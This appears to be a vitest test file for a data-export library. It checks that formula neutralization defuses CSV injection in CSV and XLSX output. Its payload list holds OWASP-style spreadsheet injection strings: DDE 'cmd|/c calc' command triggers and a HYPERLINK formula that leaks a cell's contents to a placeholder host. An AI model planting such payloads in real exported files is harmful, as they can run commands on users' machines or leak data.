import { describe, expect, it } from 'vitest';
import { csvField, dataCell, neutralizeFormula, toCsv } from '@chanye/engine';

/** The payloads of the hardening issue and OWASP's "CSV Injection" page. */
const PAYLOADS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
  "=cmd|'/c calc'!A1",
  "+1+cmd|'/c calc'!A1",
  "-2+3+cmd|'/c calc'!A1",
  "@SUM(1+1)*cmd|'/c calc'!A1",
  '\t=1+1',
  '\r=1+1',
];

describe('formula neutralization (OWASP, CSV Injection)', () => {
  it.each(PAYLOADS)('writes %j as text: a leading single quote in CSV and in XLSX cells', (payload) => {
    expect(neutralizeFormula(payload)).toBe(`'${payload}`);
    // The CSV field, unquoted or quoted (RFC 4180), starts with the quote, never with the trigger.
    const field = csvField(payload);
    expect(field.replace(/^"/, '').startsWith("'")).toBe(true);
    expect(dataCell(payload)).toEqual({ value: `'${payload}`, type: String });
  });

  it('leaves numbers, numbers as text, a lone sign and ordinary text alone', () => {
    for (const text of ['-0.5', '+3', '1e-4', '-', 'a=b', 'GDP (% of GDP)', '中国'])
      expect(neutralizeFormula(text)).toBe(text);
    expect(csvField(-0.5)).toBe('-0.5');
    expect(dataCell(-2)).toEqual({ value: -2, type: Number });
    expect(toCsv([{ source: '=1+1', value: -1 }], ['source', 'value'])).toBe("source,value\n'=1+1,-1\n");
  });
});
